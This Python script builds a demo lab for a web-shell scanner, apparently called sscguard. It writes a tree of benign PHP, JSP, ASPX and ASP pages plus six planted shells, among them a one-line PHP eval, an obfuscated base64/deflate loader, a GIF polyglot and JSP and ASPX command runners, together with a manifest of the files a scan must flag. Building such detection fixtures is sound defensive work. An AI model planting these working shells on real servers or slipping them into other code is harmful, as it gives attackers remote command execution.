"""Build the demonstration lab: a small web server tree with planted web shells and benign apps.

    python examples/build_demo.py OUT_DIR

Writes OUT_DIR/srv/... and OUT_DIR/planted.json (the files a scan must flag). The shells are
minimal ones written for this project: each shows one technique sscguard's rules look for.
Nothing here is copied from a public web-shell collection.
"""

from __future__ import annotations

import base64
import json
import sys
import zlib
from pathlib import Path

BENIGN: dict[str, str] = {
    "var/www/html/index.php": """<?php
declare(strict_types=1);
require __DIR__ . '/lib/bootstrap.php';

$page = $_GET['page'] ?? 'home';
if (!in_array($page, ['home', 'about', 'contact'], true)) {
    http_response_code(404);
    $page = 'notfound';
}
echo render_template($page, ['title' => ucfirst($page), 'user' => current_user()]);
""",
    "var/www/html/lib/bootstrap.php": """<?php
session_start();
function current_user(): ?string {
    return $_SESSION['user'] ?? null;
}
function render_template(string $name, array $vars): string {
    extract($vars, EXTR_SKIP);
    ob_start();
    include __DIR__ . '/../templates/' . basename($name) . '.phtml';
    return (string) ob_get_clean();
}
""",
    "var/www/html/lib/cache.php": """<?php
// Compiled-template cache: evaluates PHP that this application generated itself.
final class TemplateCache {
    public function __construct(private string $dir) {}
    public function load(string $key): mixed {
        $file = $this->dir . '/' . hash('sha256', $key) . '.php';
        if (!is_file($file)) {
            return null;
        }
        return eval('?>' . file_get_contents($file));
    }
}
""",
    "var/www/html/admin/backup.php": """<?php
require __DIR__ . '/../lib/bootstrap.php';
if (current_user() !== 'admin') { http_response_code(403); exit; }
// Fixed command, no request input: a nightly database dump started from the admin page.
$out = [];
exec('/usr/local/bin/db-backup --quiet', $out, $status);
echo $status === 0 ? 'Backup started' : 'Backup failed';
""",
    "var/www/html/contact.php": """<?php
$name = htmlspecialchars($_POST['name'] ?? '', ENT_QUOTES);
$msg = htmlspecialchars($_POST['message'] ?? '', ENT_QUOTES);
if ($name !== '' && $msg !== '') {
    mail('webmaster@example.org', 'Contact form', "$name wrote:\\n$msg");
    echo "<p>Thank you, $name.</p>";
}
""",
    "var/www/html/upload.php": """<?php
require __DIR__ . '/lib/bootstrap.php';
$allowed = ['image/png' => 'png', 'image/jpeg' => 'jpg'];
$type = mime_content_type($_FILES['photo']['tmp_name'] ?? '') ?: '';
if (isset($allowed[$type])) {
    $name = bin2hex(random_bytes(16)) . '.' . $allowed[$type];
    move_uploaded_file($_FILES['photo']['tmp_name'], __DIR__ . '/uploads/' . $name);
}
""",
    "var/www/html/templates/home.phtml": "<h1><?= htmlspecialchars($title) ?></h1>\n",
    "var/www/html/assets/app.js": "document.querySelectorAll('form').forEach(f => f.reset());\n",
    "var/lib/tomcat10/webapps/ROOT/index.jsp": """<%@ page contentType="text/html; charset=UTF-8" %>
<%
    String name = request.getParameter("name");
    if (name == null) { name = "guest"; }
%>
<html><body><h1>Hello, <%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(name) %></h1>
</body></html>
""",
    "inetpub/wwwroot/default.aspx": """<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e) {
        var q = Server.HtmlEncode(Request.QueryString["q"] ?? "");
        Result.Text = "You searched for " + q;
    }
</script>
<html><body><asp:Label id="Result" runat="server" /></body></html>
""",
    "inetpub/wwwroot/legacy/news.asp": """<%
Dim id : id = CInt(Request.QueryString("id"))
Response.Write "<h2>News item " & Server.HTMLEncode(id) & "</h2>"
%>
""",
}


def _encoded_php() -> str:
    inner = b"system($_REQUEST['c']);"
    blob = base64.b64encode(zlib.compress(inner)[2:-4]).decode()
    return f"<?php\n$p = '{blob}';\neval(gzinflate(base64_decode($p)));\n"


PLANTED: dict[str, str] = {
    # one-line PHP eval of request input, dropped next to the real app
    "var/www/html/uploads/thumb.php": "<?php @eval($_POST['t']); ?>\n",
    # layered encoding: base64 + raw deflate, evaluated
    "var/www/html/lib/cache-stats.php": _encoded_php(),
    # image polyglot: a GIF header followed by PHP
    "var/www/html/uploads/avatar.gif.php": "GIF89a\n<?php system($_GET['cmd']); ?>\n",
    # JSP command shell
    "var/lib/tomcat10/webapps/ROOT/status.jsp": """<%@ page import="java.io.*" %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l; while ((l = r.readLine()) != null) { out.println(l); }
    }
%>
""",
    # ASPX process start from a request field
    "inetpub/wwwroot/aspnet_client/health.aspx": """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    void Page_Load(object s, EventArgs e) {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["q"]);
        psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
        Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
    }
</script>
""",
    # classic ASP eval of a request value
    "inetpub/wwwroot/legacy/error.asp": '<% Execute(Request("e")) %>\n',
}


def build(out: Path) -> dict[str, list[str]]:
    for rel, text in {**BENIGN, **PLANTED}.items():
        path = out / "srv" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    manifest = {
        "planted": sorted(str(out / "srv" / rel) for rel in PLANTED),
        "benign": sorted(str(out / "srv" / rel) for rel in BENIGN),
    }
    (out / "planted.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    return manifest


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 2
    out = Path(sys.argv[1]).resolve()
    manifest = build(out)
    print(
        f"demo lab in {out / 'srv'}: {len(manifest['planted'])} planted shells, "
        f"{len(manifest['benign'])} benign files"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
